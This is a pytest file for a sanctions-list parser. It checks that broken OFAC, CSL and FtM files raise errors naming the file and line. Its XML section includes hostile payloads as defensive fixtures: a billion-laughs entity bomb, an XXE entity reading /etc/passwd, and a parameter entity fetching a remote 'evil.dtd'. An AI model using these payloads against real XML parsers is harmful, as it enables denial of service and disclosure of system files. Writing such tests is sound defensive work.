"""Broken and hostile files: each raises SourceError naming the file and the line."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from listguard.model import ListEntry
from listguard.sources import csl, ftm
from listguard.sources.errors import SourceError
from listguard.sources.ofac import cons_csv, sdn_csv
from listguard.sources.ofac import xml as ofac_xml

SDN_ROWS = (
    b'36,"AEROCARIBBEAN AIRLINES",-0- ,"CUBA",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- \r\n'
    b'306,"BANCO NACIONAL DE CUBA",-0- ,"CUBA",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,'
    b"\"a.k.a. 'BNC'.\"\r\n"
    b'424,"BOUTIQUE LA MAISON",-0- ,"CUBA",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- \r\n'
)
EOF_MARK = b"\x1a"


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def test_good_rows_parse(tmp_path: Path) -> None:
    entries = sdn_csv.read(_write(tmp_path, "sdn.csv", SDN_ROWS + EOF_MARK))
    assert [e.entry_id for e in entries] == ["36", "306", "424"]


@pytest.mark.parametrize(
    ("data", "line", "field", "words"),
    [
        # cut in the middle of a quoted field (a download that stopped)
        (SDN_ROWS[: SDN_ROWS.index(b"BNC")], 2, None, "unterminated quoted field"),
        # last row lost its final columns
        (SDN_ROWS + b'500,"CUT ROW",-0- ,"CUBA"\r\n', 4, "title", "4 of 12 columns"),
        # a column too many
        (SDN_ROWS.replace(b"-0- \r\n", b"-0- ,-0- \r\n", 1), 1, None, "13 columns"),
        # wrong encoding: 0x81 and 0x8D are neither UTF-8 nor cp1252
        (SDN_ROWS.replace(b"BOUTIQUE", b"BOUT\x81\x8dQUE"), 3, None, "cannot be decoded"),
        # binary junk
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), 3, None, "binary"),
        (SDN_ROWS.replace(b"424,", b"42x,"), 3, "ent_num", "not a number"),
        (SDN_ROWS.replace(b"424,", b"306,"), 3, "ent_num", "repeated"),
        (SDN_ROWS.replace(b'"BOUTIQUE LA MAISON"', b"-0- "), 3, "sdn_name", "empty name"),
        (SDN_ROWS + EOF_MARK + b'\r\n600,"AFTER",-0-\r\n', 4, None, "end-of-file mark"),
    ],
)
def test_bad_sdn_csv(tmp_path: Path, data: bytes, line: int, field: str | None, words: str) -> None:
    path = _write(tmp_path, "sdn.csv", data)
    with pytest.raises(SourceError) as info:
        sdn_csv.read(path)
    err = info.value
    assert (err.path, err.line, err.field) == (path, line, field)
    assert words in err.message
    assert str(err).startswith(f"sdn.csv line {line}")


@pytest.mark.parametrize(
    ("name", "data", "line", "field"),
    [
        ("alt.csv", b'36,12,"aka","AERO-CARIBBEAN",-0- \r\n36,13,"aka"\r\n', 2, "alt_name"),
        ("add.csv", b'36,25,-0- ,"Havana","Cuba",-0- \r\n306,"x\r\n', 2, None),
        ("sdn_comments.csv", b'306,"continued"\r\n306\r\n', 2, "remarks_extended"),
        ("alt.csv", b'36,1x,"aka","A",-0- \r\n', 1, "alt_num"),
    ],
)
def test_bad_companion_file(
    tmp_path: Path, name: str, data: bytes, line: int, field: str | None
) -> None:
    _write(tmp_path, "sdn.csv", SDN_ROWS)
    path = _write(tmp_path, name, data)
    with pytest.raises(SourceError) as info:
        sdn_csv.read(tmp_path)
    assert (info.value.path, info.value.line, info.value.field) == (path, line, field)
    assert str(info.value).startswith(f"{name} line {line}")


def test_missing_primary_file(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match=r"cons_prim.csv: file not found"):
        cons_csv.read(tmp_path / "cons_prim.csv")


# -- XML --------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<sdnList><sdnEntry><uid>1</uid><lastName>&lol4;</lastName></sdnEntry></sdnList>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE sdnList [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<sdnList><sdnEntry><uid>1</uid><lastName>&xxe;</lastName></sdnEntry></sdnList>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE sdnList [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<sdnList/>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE sdnList SYSTEM "http://example.invalid/sdn.dtd">
<sdnList/>
"""
UNDEFINED_ENTITY = b"""<?xml version="1.0"?>
<sdnList><sdnEntry><uid>1</uid><lastName>&undefined;</lastName></sdnEntry></sdnList>
"""
CLASSIC = (
    b'<?xml version="1.0"?>\n<sdnList xmlns="http://tempuri.org/sdnList.xsd">\n'
    b"  <sdnEntry><uid>36</uid><lastName>AEROCARIBBEAN AIRLINES</lastName>\n"
    b"    <sdnType>Entity</sdnType></sdnEntry>\n"
    b"  <sdnEntry><uid>306</uid><lastName>BANCO NACIONAL DE CUBA</lastName>\n"
    b"    <sdnType>Entity</sdnType></sdnEntry>\n</sdnList>\n"
)


@pytest.mark.parametrize(
    ("data", "line", "words"),
    [
        (BILLION_LAUGHS, 2, "refused a DTD"),
        (EXTERNAL_ENTITY, 2, "refused a DTD"),
        (PARAMETER_ENTITY, 2, "refused a DTD"),
        (EXTERNAL_DTD, 2, "refused a DTD"),
        (UNDEFINED_ENTITY, 2, "undefined entity"),
        (CLASSIC[:150], 4, "file truncated"),
        (CLASSIC.replace(b"AEROCARIBBEAN", b"AERO\xff\xfeCARIBBEAN"), 3, "bad XML"),
        (bytes((i * 131 + 7) % 256 for i in range(3000)), 1, "bad XML"),
        (CLASSIC.replace(b"sdnList", b"catalog"), 2, "not this OFAC XML format"),
        (CLASSIC.replace(b"<uid>306</uid>", b"<uid>x</uid>"), 5, "not a number"),
        (b"", None, "the file is empty"),
    ],
)
def test_bad_or_hostile_xml(tmp_path: Path, data: bytes, line: int | None, words: str) -> None:
    path = _write(tmp_path, "SDN.XML", data)
    assert len(ofac_xml.read(_write(tmp_path, "ok.xml", CLASSIC))) == 2
    with pytest.raises(SourceError) as info:
        ofac_xml.read(path)
    assert (info.value.path, info.value.line) == (path, line)
    assert words in str(info.value)
    assert str(info.value).startswith(f"SDN.XML line {line}" if line else "SDN.XML: ")


def test_hostile_advanced_xml(tmp_path: Path) -> None:
    data = BILLION_LAUGHS.replace(b"sdnList", b"Sanctions")
    path = _write(tmp_path, "SDN_ADVANCED.XML", data)
    with pytest.raises(SourceError, match=r"SDN_ADVANCED.XML line 2: refused"):
        ofac_xml.read_advanced(path)
    with pytest.raises(SourceError, match="refused"):
        ofac_xml.publication_date(path)


# -- CSL and FtM ------------------------------------------------------------------------------

CSL_CSV = (
    b"source,entity_number,type,programs,name,addresses,start_date,ids\r\n"
    b'Entity List (EL) - Bureau of Industry and Security,,,,Acme Ltd.,"Beijing, CN",'
    b"2020-12-22,\r\n"
)


@pytest.mark.parametrize(
    ("name", "data", "reader", "line", "field", "words"),
    [
        ("csl.csv", CSL_CSV.replace(b"source,", b"src,"), csl.read, 1, "source", "missing"),
        ("csl.csv", CSL_CSV + b'Entity List (EL),,,,"cut', csl.read, 3, None, "truncated"),
        ("csl.csv", CSL_CSV + b"Entity List (EL),,,\r\n", csl.read, 3, "name", "columns"),
        ("csl.json", b'{"results": [{"source": "x", "name": "y"},', csl.read, 1, None, "JSON"),
        ("csl.json", b'{"results": [{"source": "x", "name": ""}]}', csl.read, 1, "name", "empty"),
        ("csl.json", b'{"total": 0}', csl.read, None, "results", "no 'results'"),
        (
            "e.ftm.json",
            b'{"id": "a", "schema": "Company", "properties": {"name": ["A"]}}\n{"id":',
            ftm.read,
            2,
            None,
            "bad JSON",
        ),
        ("e.ftm.json", b'{"id": "a", "properties": {}}\n', ftm.read, 1, "schema", "without"),
        (
            "e.ftm.json",
            b'{"id": "a", "schema": "Company", "properties": {}}\n',
            ftm.read,
            1,
            "name",
            "no name",
        ),
        ("e.ftm.json", b'{"id": "\x81\x82"}\n', ftm.read, 1, None, "cannot be decoded"),
    ],
)
def test_bad_csl_and_ftm(
    tmp_path: Path,
    name: str,
    data: bytes,
    reader: Callable[[Path], list[ListEntry]],
    line: int | None,
    field: str | None,
    words: str,
) -> None:
    path = _write(tmp_path, name, data)
    with pytest.raises(SourceError) as info:
        reader(path)
    assert (info.value.path, info.value.line, info.value.field) == (path, line, field)
    assert words in str(info.value)
    assert str(info.value).startswith(name)
